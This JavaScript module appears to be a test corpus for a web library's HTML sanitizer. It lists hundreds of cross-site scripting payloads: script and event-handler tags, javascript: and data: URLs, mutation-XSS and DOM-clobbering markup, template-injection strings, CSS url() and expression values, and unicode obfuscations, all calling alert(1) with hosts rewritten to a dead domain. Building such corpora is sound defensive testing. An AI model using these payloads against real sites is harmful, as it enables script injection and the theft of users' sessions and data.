// What an attacker may put into a stream: markup, URLs, styles, names. What runs calls alert(), or the trap of cases.
import { PUBLISHED } from "./payloads-published.js";

/** Nobody answers there. */
const elsewhere = (text) => text.replace(/\/\/[\w.-]+\.[a-z]{2,}/gi, "//elsewhere.invalid");

/** Each stands where a filter by spelling would miss it: white space, controls, zero-width and format characters. */
const SPACES = [
  ...Array.from({ length: 33 }, (_, code) => code),
  0x7f, 0x85, 0xa0, 0xad, 0x1680, 0x180e, 0x2000, 0x200a, 0x200b, 0x200c, 0x200d, 0x200e, 0x2028, 0x2029, 0x202e, 0x202f, 0x205f, 0x2060, 0x3000,
  0xfeff, 0xfffd,
].map((code) => String.fromCodePoint(code));

const SCRIPTS = [
  `<script>alert(1)</script>`,
  `<SCRIPT SRC=data:text/javascript,alert(1)></SCRIPT>`,
  `<script type=module>alert(1)</script>`,
  `<script>alert(1)`,
  `</p><script>alert(1)</script>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><script href="data:text/javascript,alert(1)"/></svg>`,
  `<svg><script xlink:href="data:text/javascript,alert(1)"/></svg>`,
  `<math><script>alert(1)</script></math>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<script/x>alert(1)</script>`,
  `<ſcript>alert(1)</ſcript>`,
  `<template><script>alert(1)</script></template>`,
  `<div><template shadowrootmode=open><script>alert(1)</script><img src=x onerror=alert(1)></template></div>`,
  `<div><template shadowrootmode=closed shadowrootclonable><img src=x onerror=alert(1)></template></div>`,
  `<div><template SHADOWROOTMODE=open><a href=javascript:alert(1)>x</a></template></div>`,
  `<script type=importmap>{"imports":{"/pkg/dom.js":"data:text/javascript,alert(1)"}}</script>`,
  `<script type=speculationrules>{"prerender":[{"urls":["/x"]}]}</script>`,
];

const HANDLERS = [
  `<img src=x onerror=alert(1)>`,
  `<img/src=x/onerror=alert(1)>`,
  `<img src=x:x onerror\n=\nalert(1)>`,
  `<img src=x oNeRrOr=alert(1)>`,
  `<img src="x" onerror="alert(1)" onload="alert(1)">`,
  `<image src=x onerror=alert(1)>`,
  `<svg onload=alert(1)>`,
  `<svg><g onload=alert(1)></g></svg>`,
  `<svg><a><text onclick=alert(1)>x</text></a></svg>`,
  `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
  `<svg><discard onbegin=alert(1)>`,
  `<svg><set onbegin=alert(1) attributeName=x>`,
  `<body onload=alert(1)>`,
  `<body onpageshow=alert(1)>`,
  `<html onclick=alert(1)>`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<input autofocus onfocus=alert(1)>`,
  `<select autofocus onfocus=alert(1)><option>x</select>`,
  `<textarea autofocus onfocus=alert(1)></textarea>`,
  `<p tabindex=1 autofocus onfocus=alert(1)>x`,
  `<video src=x onerror=alert(1)></video>`,
  `<video><source src=x onerror=alert(1)></video>`,
  `<audio src=x onerror=alert(1)></audio>`,
  `<video poster=x onloadstart=alert(1) src=x>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<dialog open onclose=alert(1)>x</dialog>`,
  `<p popover id=pop onbeforetoggle=alert(1)>x</p><button popovertarget=pop autofocus>x</button>`,
  `<button command=show-modal commandfor=d onclick=alert(1)>x</button>`,
  `<p style="animation:x" onanimationstart=alert(1)>x`,
  `<p onpointerover=alert(1) onscrollsnapchange=alert(1) onnewthing=alert(1)>x`,
  `<iframe onload=alert(1)></iframe>`,
  `<object onerror=alert(1) data=x></object>`,
  `<link rel=stylesheet href=x onerror=alert(1)>`,
  `<style onload=alert(1)></style>`,
  `<track src=x onerror=alert(1)>`,
  `<form oninput=alert(1)><input></form>`,
  `<isindex onfocus=alert(1) autofocus>`,
  `<x onclick=alert(1)>x</x>`,
  `<my-element onclick=alert(1)>x</my-element>`,
  `" onmouseover=alert(1) x="`,
  `' autofocus onfocus=alert(1) x='`,
  `"><img src=x onerror=alert(1)>`,
  `'><img src=x onerror=alert(1)>`,
  `--><img src=x onerror=alert(1)>`,
  `]]><img src=x onerror=alert(1)>`,
  `</textarea><img src=x onerror=alert(1)>`,
  `</title><img src=x onerror=alert(1)>`,
  `</style><img src=x onerror=alert(1)>`,
  `</script><img src=x onerror=alert(1)>`,
  `</template><img src=x onerror=alert(1)>`,
];

const LOADERS = [
  `<iframe src=javascript:alert(1)></iframe>`,
  `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  `<iframe src="data:text/html,<script>parent.alert(1)</script>"></iframe>`,
  `<frameset><frame src=javascript:alert(1)></frameset>`,
  `<object data=javascript:alert(1)></object>`,
  `<object data="data:text/html,<script>alert(1)</script>"></object>`,
  `<embed src=javascript:alert(1)>`,
  `<embed src="data:image/svg+xml,<svg onload=alert(1)>">`,
  `<applet code=x></applet>`,
  `<fencedframe src=x></fencedframe>`,
  `<portal src=javascript:alert(1)></portal>`,
  `<base href=javascript:/x/>`,
  `<base target=_blank href=//elsewhere.invalid/>`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<meta http-equiv=refresh content="0;url=/tests/">`,
  `<meta http-equiv=content-security-policy content="default-src *">`,
  `<meta name=referrer content=unsafe-url>`,
  `<link rel=stylesheet href=data:text/css,*{color:red}>`,
  `<link rel=import href=x>`,
  `<link rel=modulepreload href=/tests/x.js>`,
  `<link rel=manifest href=x>`,
  `<style>*{background:url(//elsewhere.invalid/x)}</style>`,
  `<style>@import "//elsewhere.invalid/x.css";</style>`,
  `<p style="background:url(//elsewhere.invalid/x)">x`,
  `<p style="width:expression(alert(1))">x`,
  `<p style="-moz-binding:url(x#y)">x`,
  `<p style="position:fixed;inset:0;z-index:9999">x`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`,
  `<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`,
];

const LINKS = [
  `<a href=javascript:alert(1)>x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="&#106;avascript:alert(1)">x</a>`,
  `<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>`,
  `<a href="java&Tab;script&NewLine;:alert(1)">x</a>`,
  `<a href=javascript&#0000058alert(1)>x</a>`,
  `<a href="javascript:alert(1)" target=_blank>x</a>`,
  `<a href="//elsewhere.invalid" target=_blank rel=opener>x</a>`,
  `<a href="//elsewhere.invalid" target=other ping=javascript:alert(1)>x</a>`,
  `<a href="vbscript:alert(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="blob:null/x">x</a>`,
  `<a href="view-source:javascript:alert(1)">x</a>`,
  `<area href=javascript:alert(1)>`,
  `<map name=m><area href=javascript:alert(1)></map><img usemap=#m src=x>`,
  `<form action=javascript:alert(1)><button>x</button></form>`,
  `<form action=//elsewhere.invalid/><input name=password type=password><button>x</button></form>`,
  `<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>`,
  `<button formaction=javascript:alert(1)>x</button>`,
  `<input type=submit formaction=javascript:alert(1)>`,
  `<input type=image src=x formaction=javascript:alert(1)>`,
  `<isindex action=javascript:alert(1) type=submit>`,
  `<svg><a href=javascript:alert(1)><text>x</text></a></svg>`,
  `<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>`,
  `<svg xmlns:y="http://www.w3.org/1999/xlink"><a y:href=javascript:alert(1)><text>x</text></a></svg>`,
  `<svg><a><animate attributeName=href to=javascript:alert(1) dur=1ms fill=freeze /><text>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:alert(1)" /><text>x</text></a></svg>`,
  `<svg><a id=q><set href=#q attributeName=href to=javascript:alert(1) /><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x"/></svg>`,
  `<svg><use xlink:href="//elsewhere.invalid/x.svg#x"/></svg>`,
  `<svg><image href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>`,
  `<svg><feImage href="javascript:alert(1)"/></svg>`,
  `<svg><rect fill="url(//elsewhere.invalid/x#y)"/></svg>`,
  `<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`,
  `<svg><foreignObject><body onload=alert(1)></foreignObject></svg>`,
  `<math href=javascript:alert(1)>x</math>`,
  `<math><mi href=javascript:alert(1)>x</mi></math>`,
  `<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>`,
  `<img src=javascript:alert(1)>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">`,
  `<img srcset="javascript:alert(1) 1x">`,
  `<picture><source srcset="javascript:alert(1)"><img src=x></picture>`,
  `<video poster=javascript:alert(1)></video>`,
  `<blockquote cite=javascript:alert(1)>x</blockquote>`,
  `<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>`,
  `<q cite=javascript:alert(1)>x</q><del cite=javascript:alert(1)>x</del>`,
];

/** Markup that means something else once it was written as text and parsed again. */
const MUTATIONS = [
  `<svg><style><img src=x onerror=alert(1)></style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
  `<math><style><img src=x onerror=alert(1)></style></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>"></annotation-xml></math>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
  `<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>`,
  `<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>`,
  `<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
  `<title><p title="</title><img src=x onerror=alert(1)>">`,
  `<template><p title="</template><img src=x onerror=alert(1)>"></template>`,
  `<select><style></select><img src=x onerror=alert(1)></style>`,
  `<select><keygen><img src=x onerror=alert(1)></select>`,
  `<select><option><style></option></select><b><img src=x onerror=alert(1)></style>`,
  `<table><caption><svg><style></caption></table><img src=x onerror=alert(1)>`,
  `<svg><desc><table><style><!--</style><a title="--><img src=x onerror=alert(1)>"></a></svg>`,
  `<svg><title><style><p title="</style></title><img src=x onerror=alert(1)>"></svg>`,
  `<plaintext><img src=x onerror=alert(1)>`,
  `<listing>\n<img src=x onerror=alert(1)></listing>`,
  `<p title="\u0060\u0060onmouseover=alert(1)">x`,
  `<a title="<a/><img src=x onerror=alert(1)>">x`,
  `<b <script>alert(1)</script>0</b>`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>`,
  `<% <img src=x onerror=alert(1)> %>`,
  `${"<div>".repeat(600)}<svg><style><img src=x onerror=alert(1)>`,
];

/** Controls and images that hide what code asks of forms and documents, and keys that are no keys. */
const CLOBBERING = [
  ...["attributes", "localName", "namespaceURI", "remove", "removeAttribute", "getAttribute", "parentNode", "ownerDocument", "nodeType", "children",
    "querySelectorAll", "removeAttributeNode", "innerHTML", "action", "submit", "__proto__", "constructor"].map(
    (name) => `<form onclick=alert(1)><input name=${name}><input id=${name}></form>`,
  ),
  ...["cookie", "body", "head", "getElementById", "createElement", "location", "defaultView", "implementation", "currentScript"].map(
    (name) => `<img name=${name}><form name=${name}></form><img id=${name} name=x>`,
  ),
  `<a id=alert><a id=alert name=x href=javascript:alert(1)>x</a>`,
  `<form id=runnelet><input name=constructor></form>`,
  `<p __proto__=x constructor=x toString=x>x`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"polluted":1}}`,
];

/** What other libraries run, if the page holds one. */
const TEMPLATES = [
  `{{constructor.constructor('alert(1)')()}}`,
  `\${alert(1)}`,
  `<p x-data x-init="alert(1)" @click="alert(1)" :title="alert(1)">x`,
  `<p v-html="x" v-on:click="alert(1)">x`,
  `<p ng-app ng-init="alert(1)" data-ng-click="alert(1)" ng-csp>x`,
  `<p hx-get=/x hx-on:click="alert(1)" hx-on-click="alert(1)" data-hx-on-click="alert(1)" hx-vals="js:{x:alert(1)}">x`,
  `<p data-on-click="alert(1)" data-on:click="alert(1)" data-on-load="alert(1)" data-init="alert(1)" data-effect="alert(1)">x`,
  `<p data-signals="{x:alert(1)}" data-text="alert(1)" data-bind="text: alert(1)" data-computed-x="alert(1)">x`,
  `<section data-stream-src=/x data-stream-mode=text data-hydrate=load data-hydrate-module=data:text/javascript,alert(1)>x</section>`,
  `<p data-stream-attr="href:/x" data-stream-html=/x data-stream-row=x>x`,
];

/** Regions, which act by themselves: in HTML that is not trusted all of it goes, in other at least the code. */
export const WIDGETS = [
  `<runnelet-view src=/x>x</runnelet-view>`,
  `<runnelet-view src=/x trust=widgets mode=ops hydrate=load>x</runnelet-view>`,
  `<runnelet-view module=data:text/javascript,alert(1)>x</runnelet-view>`,
  `<RUNNELET-VIEW MODULE=/tests/e2e/cases/dom/attacked.js SRC=/x></RUNNELET-VIEW>`,
  `<p><runnelet-view data-hydrate-module=data:text/javascript,alert(1)>x</runnelet-view></p>`,
  `<template><runnelet-view src=/x module=/x></runnelet-view></template>`,
  `<p is=runnelet-view src=/x>x</p>`,
  `<p data-hydrate-module=data:text/javascript,alert(1)>x</p>`,
  `<p DATA-HYDRATE-MODULE=/tests/e2e/cases/dom/attacked.js data-hydrate=load>x</p>`,
  `<template><p data-hydrate-module=data:text/javascript,alert(1)>x</p></template>`,
  `<template><template><p data-hydrate-module=/x onclick=alert(1)><a href=javascript:alert(1)>x</a></p></template></template>`,
  `<template><script>alert(1)</script><img src=x onerror=alert(1)><iframe src=javascript:alert(1)></iframe></template>`,
  `<template data-stream-each><p><style>*{color:red}</style><svg><animate attributeName=href></svg></p></template>`,
  `<template shadowrootmode=open><img src=x onerror=alert(1)></template>`,
  `<section data-stream-src=/x><template data-stream-each><b data-stream-attr="onclick:/x" onclick=alert(1) data-stream-text=/x></b></template></section>`,
  `<section data-stream-src=/x data-stream-trust=widgets data-stream-mode=ops data-hydrate=load><iframe srcdoc=x></iframe></section>`,
  `<svg><g data-hydrate-module=/x data-stream-src=/x data-stream-mode=text></g></svg>`,
  `<math><mi data-hydrate-module=/x data-stream-src=/x data-stream-mode=text>x</mi></math>`,
];

/** Ids that mean something else to a selector, to an object, to the document or to the region. */
export const IDS = [
  "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf", "d", "x", "p", "l", "body", "cookie", "attributes", "children",
  "parentNode", "remove", "id", "0", "-1", "a b", "a.b", "a#b", "a,b", "*", ":scope", ":root", ":not(x)", "]", '"]', "\\", '\\"', "a\\", "<img>", "&quot;",
  "\u0000", "\ufffd", "\ud800", "ſ", "İ", "head", "documentElement", "#d", "stage", "log", "html", "x > *", "*:has(*)", "",
];

const UNICODE = [
  `\ufeff<img src=x onerror=alert(1)>`,
  `\u202e<img src=x onerror=alert(1)>`,
  `＜img src=x onerror=alert(1)＞`,
  `<img src=x onerror=\u2028alert(1)>`,
  `<im\u0000g src=x onerror=alert(1)>`,
  `<img src=x on\u0000error=alert(1)>`,
  `\ud800<img src=x onerror=alert(1)>`,
  `%3Cimg src=x onerror=alert(1)%3E`,
  `&lt;img src=x onerror=alert(1)&gt;`,
  `&amp;lt;img src=x onerror=alert(1)&amp;gt;`,
  `\\u003cimg src=x onerror=alert(1)\\u003e`,
  `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`,
];

/** One payload for each character, in rotation: each place sees every third. */
const SPELLINGS = SPACES.flatMap((space, index) => [
  [`<a href="${space}javascript:alert(1)">x</a>`, `<a href="java${space}script:alert(1)">x</a>`, `<a href="javascript${space}:alert(1)">x</a>`][index % 3],
  [`<img src=x${space}onerror=alert(1)>`, `<img src=x onerror${space}=alert(1)>`, `<img${space}src=x onerror=alert(1)>`][index % 3],
]);

/** Ours: every kind of attack once. */
export const OWN = [SCRIPTS, HANDLERS, LOADERS, LINKS, MUTATIONS, CLOBBERING, TEMPLATES, UNICODE].flat();

/** @returns {Promise<string[]>} All markup: ours, that of DOMPurify's tests, and the lines of the Big List of Naughty Strings (MIT) that are meant to run. */
export async function allMarkup() {
  const response = await fetch("/node_modules/big-list-of-naughty-strings/blns.json");
  const naughty = (await response.json()).filter((line) => /alert|javascript|script|onerror/i.test(line));
  // Its lines spell bytes as \xE2\x80\x80.
  const decoder = new TextDecoder();
  const decoded = naughty.map((line) =>
    line.replace(/(?:\\x[0-9a-f]{2})+/gi, (bytes) => decoder.decode(Uint8Array.from(bytes.slice(2).split("\\x"), (byte) => parseInt(byte, 16)))),
  );
  return [...OWN, ...SPELLINGS, ...PUBLISHED, ...decoded].map(elsewhere);
}

/** URLs that no attribute may hold. */
export const URLS = [
  "javascript:alert(1)",
  "JAVASCRIPT:alert(1)",
  "javascript://%0aalert(1)",
  "javascript://elsewhere.invalid/%0aalert(1)",
  "javascript:/*<!--*/alert(1)",
  "javascript\t:alert(1)",
  "jav\nascript:alert(1)",
  " \u0000\u001f javascript:alert(1)",
  "vbscript:alert(1)",
  "livescript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "data:image/svg+xml;base64,PHN2Zz4=",
  "data:,alert(1)",
  "data:application/javascript,alert(1)",
  "DATA:text/html,x",
  "blob:javascript:alert(1)",
  "filesystem:javascript:alert(1)",
  "view-source:javascript:alert(1)",
  "about:srcdoc",
  "feed:javascript:alert(1)",
  "ws://elsewhere.invalid/",
  "//",
  "http://[",
  ...SPACES.slice(0, 33).map((space) => `${space}javascript:alert(1)`),
];

/** Name and value of styles that are not written. */
export const STYLES = [
  ["background", "url(//elsewhere.invalid/x)"],
  ["background", "URL( '//elsewhere.invalid/x' )"],
  ["background", "u\\72l(//elsewhere.invalid/x)"],
  ["background", "url/**/(//elsewhere.invalid/x)"],
  ["background", "image-set('//elsewhere.invalid/x' 1x)"],
  ["background-image", "-webkit-image-set(url(//elsewhere.invalid/x) 1x)"],
  ["background-image", "cross-fade(url(//elsewhere.invalid/x), red)"],
  ["background-image", "image('//elsewhere.invalid/x')"],
  ["background-image", "src('//elsewhere.invalid/x')"],
  ["background-image", "element(#x)"],
  ["background-image", "-moz-element(#x)"],
  ["background-image", "paint(x)"],
  ["background-image", "linear-gradient(red, blue), url(//elsewhere.invalid/x)"],
  ["list-style", "url(javascript:alert(1))"],
  ["cursor", "url(//elsewhere.invalid/x), auto"],
  ["filter", "url(//elsewhere.invalid/x#y)"],
  ["width", "expression(alert(1))"],
  ["width", "ex\\pression(alert(1))"],
  ["width", "ｅｘｐｒｅｓｓｉｏｎ(alert(1))"],
  ["behavior", "url(x)"],
  ["-moz-binding", "url(x#y)"],
  ["position", "fixed"],
  ["position", "absolute"],
  ["POSITION", "fixed"],
  ["z-index", "9999"],
  ["color", "red; position: fixed"],
  ["color", "red} *{color:blue"],
  ["color", "red !important"],
  ["color", "</style><img src=x onerror=alert(1)>"],
  ["color", "@import '//elsewhere.invalid/x'"],
  ["--x", "url(//elsewhere.invalid/x)"],
  ["--x", "u\\72l(//elsewhere.invalid/x)"],
  ["cssText", "color: red"],
  ["__proto__", "x"],
  ["color:red;x", "y"],
  ["", "x"],
];

/** Element and property that are not written. */
export const PROPERTIES = [
  ["p", "innerHTML"], ["p", "outerHTML"], ["p", "textContent"], ["p", "innerText"], ["p", "nodeValue"], ["p", "onclick"], ["p", "onfocus"],
  ["p", "__proto__"], ["p", "constructor"], ["p", "style"], ["p", "className"], ["p", "id"], ["p", "dataset"], ["p", "attributes"], ["p", "slot"],
  ["p", "VALUE"], ["p", "value"], ["p", "checked"], ["p", "ariaDescribedByElements"], ["p", "ariaActiveDescendantElement"], ["p", "aria"],
  ["a", "href"], ["a", "protocol"], ["a", "text"], ["a", "target"], ["img", "src"], ["img", "srcset"], ["iframe", "src"], ["iframe", "srcdoc"],
  ["iframe", "contentWindow"], ["form", "action"], ["form", "submit"], ["form", "target"], ["button", "formAction"], ["button", "type"],
  ["input", "type"], ["input", "name"], ["input", "form"], ["input", "files"], ["input", "formAction"], ["input", "src"], ["input", "defaultValue"],
  ["video", "src"], ["video", "srcObject"], ["video", "poster"], ["script", "text"], ["script", "hidden"], ["style", "disabled"],
  ["link", "disabled"], ["template", "innerHTML"], ["my-element", "html"], ["my-element", "data"], ["select", "options"], ["dialog", "returnValue"],
];
